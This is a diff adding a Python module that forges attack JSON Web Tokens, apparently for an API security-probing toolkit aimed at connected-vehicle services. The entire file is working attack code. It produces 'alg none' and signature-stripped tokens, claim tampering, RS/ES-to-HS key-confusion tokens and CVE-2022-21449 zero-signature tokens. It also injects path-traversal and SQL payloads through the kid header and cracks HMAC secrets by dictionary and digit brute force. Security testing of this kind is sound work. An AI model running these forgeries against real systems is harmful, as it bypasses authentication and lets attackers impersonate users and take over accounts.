@@ -1,0 +1,165 @@
+"""Byte-exact JWT forging. PyJWT refuses to build most attack tokens (and must, as a verifier), so
+headers and payloads are serialised here with compact JSON and signed with hmac/cryptography directly
+(../shared/reference/api_probes.md §6.3). Existing segments are reused verbatim where the attack keeps them."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import hmac
+import json
+from typing import Any
+
+ALG_NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
+
+
+def b64u(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")
+
+
+def b64u_decode(s: str) -> bytes:
+    return base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))
+
+
+def compact(obj: Any) -> bytes:
+    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False).encode("utf-8")
+
+
+def split(token: str) -> tuple[dict[str, Any], dict[str, Any], str, str, str]:
+    h, p, s = token.split(".")
+    return json.loads(b64u_decode(h)), json.loads(b64u_decode(p)), h, p, s
+
+
+def unsigned(header: dict[str, Any], payload_segment: str) -> str:
+    """alg none: the header re-serialised, the original payload segment kept, an empty signature."""
+    return f"{b64u(compact(header))}.{payload_segment}."
+
+
+def alg_none_tokens(token: str) -> list[str]:
+    head, _, _, p, _ = split(token)
+    out = [unsigned({**head, "alg": a}, p) for a in ALG_NONE_SPELLINGS]
+    out.append(unsigned({**head, "alg": ""}, p))
+    return out
+
+
+def stripped(token: str) -> str:
+    h, p, _ = token.split(".")
+    return f"{h}.{p}."
+
+
+def truncated(token: str) -> str:
+    return token[:-4]
+
+
+def bit_flipped(token: str) -> str:
+    h, p, s = token.split(".")
+    sig = bytearray(b64u_decode(s))
+    sig[len(sig) // 2] ^= 0x01
+    return f"{h}.{p}.{b64u(bytes(sig))}"
+
+
+def tampered(token: str, **claims: Any) -> str:
+    """New claims, the old signature kept: accepted only if the signature is not verified."""
+    _, payload, h, _, s = split(token)
+    return f"{h}.{b64u(compact({**payload, **claims}))}.{s}"
+
+
+def hs_sign(header: dict[str, Any], payload: dict[str, Any], key: bytes, alg: str = "HS256") -> str:
+    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
+    signing_input = f"{b64u(compact({**header, 'alg': alg}))}.{b64u(compact(payload))}"
+    return f"{signing_input}.{b64u(hmac.new(key, signing_input.encode(), digest).digest())}"
+
+
+def hs_resign_segments(h: str, p: str, key: bytes) -> str:
+    """HS256 over existing raw segments (keeps the exact bytes, e.g. the RFC 7515 A.1 CRLFs)."""
+    return f"{h}.{p}.{b64u(hmac.new(key, f'{h}.{p}'.encode(), hashlib.sha256).digest())}"
+
+
+def public_key_encodings(pem: bytes) -> dict[str, bytes]:
+    """The forms a server may use as an HMAC secret by mistake (RS/ES -> HS key confusion)."""
+    from cryptography.hazmat.primitives import serialization
+
+    key = serialization.load_pem_public_key(pem)
+    spki = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+    der = key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
+    forms = {"spki_pem": spki, "spki_pem_no_newline": spki.rstrip(b"\n"), "spki_der_base64": base64.b64encode(der)}
+    try:
+        pkcs1 = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
+        forms["pkcs1_pem"] = pkcs1
+        forms["pkcs1_der_base64"] = base64.b64encode(
+            key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.PKCS1))
+    except ValueError:  # EC keys have no PKCS#1 form
+        pass
+    return forms
+
+
+def key_confusion_tokens(token: str, public_pem: bytes) -> dict[str, str]:
+    head, payload, *_ = split(token)
+    return {name: hs_sign({**head}, payload, secret) for name, secret in public_key_encodings(public_pem).items()}
+
+
+def rsa_sign(header: dict[str, Any], payload: dict[str, Any], private_key: Any) -> str:
+    from cryptography.hazmat.primitives import hashes
+    from cryptography.hazmat.primitives.asymmetric import padding
+
+    signing_input = f"{b64u(compact({**header, 'alg': 'RS256'}))}.{b64u(compact(payload))}"
+    sig = private_key.sign(signing_input.encode(), padding.PKCS1v15(), hashes.SHA256())
+    return f"{signing_input}.{b64u(sig)}"
+
+
+def rsa_public_jwk(private_key: Any, kid: str = "probe") -> dict[str, Any]:
+    nums = private_key.public_key().public_numbers()
+    return {"kty": "RSA", "kid": kid, "use": "sig", "alg": "RS256",
+            "n": b64u(nums.n.to_bytes((nums.n.bit_length() + 7) // 8, "big")),
+            "e": b64u(nums.e.to_bytes((nums.e.bit_length() + 7) // 8, "big"))}
+
+
+def psychic_es256(token: str) -> str:
+    """CVE-2022-21449: an ES256 token whose P1363 signature is r = s = 0 (64 zero bytes)."""
+    head, _, _, p, _ = split(token)
+    return f"{b64u(compact({**head, 'alg': 'ES256'}))}.{p}.{b64u(bytes(64))}"
+
+
+KID_INJECTIONS = (("../../../../../../../dev/null", b""), ("/dev/null", b""), ("x' UNION SELECT '1';--", b"1"))
+
+
+def kid_tokens(token: str) -> list[tuple[str, str]]:
+    head, payload, *_ = split(token)
+    return [(kid, hs_sign({**head, "kid": kid}, payload, key)) for kid, key in KID_INJECTIONS]
+
+
+COMMON_SECRETS = (
+    "secret", "secret123", "changeme", "password", "123456", "12345678", "admin", "jwt", "jwtsecret", "jwt_secret",
+    "your-256-bit-secret", "your_jwt_secret", "mysecret", "supersecret", "secretkey", "secret_key", "key", "test",
+    "testing", "default", "qwerty", "letmein", "token", "auth", "authsecret", "hmac", "hs256", "private", "s3cr3t",
+    "P@ssw0rd", "changeit", "development", "dev", "prod", "production", "example", "demo", "vehicle", "car",
+    "telematics", "tsp", "iov", "connectedcar", "mysupersecretkey", "ThisIsMySecretKey", "0", "1", "",
+)
+
+
+def crack_hs(token: str, words: tuple[str, ...] = COMMON_SECRETS, time_budget_s: float = 10.0,
+             digits_up_to: int = 6) -> str | None:
+    """Offline dictionary attack on an HS* token (no request is sent); bounded in time."""
+    import time
+
+    head, _, h, p, s = split(token)
+    alg = str(head.get("alg", ""))
+    if alg not in ("HS256", "HS384", "HS512"):
+        return None
+    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
+    target = b64u_decode(s)
+    msg = f"{h}.{p}".encode()
+    end = time.monotonic() + time_budget_s
+
+    def candidates():
+        yield from words
+        for n in range(1, digits_up_to + 1):
+            for i in range(10 ** n):
+                yield str(i).zfill(n)
+
+    for i, w in enumerate(candidates()):
+        if hmac.compare_digest(hmac.new(w.encode(), msg, digest).digest(), target):
+            return w
+        if i % 4096 == 0 and time.monotonic() > end:
+            return None
+    return None
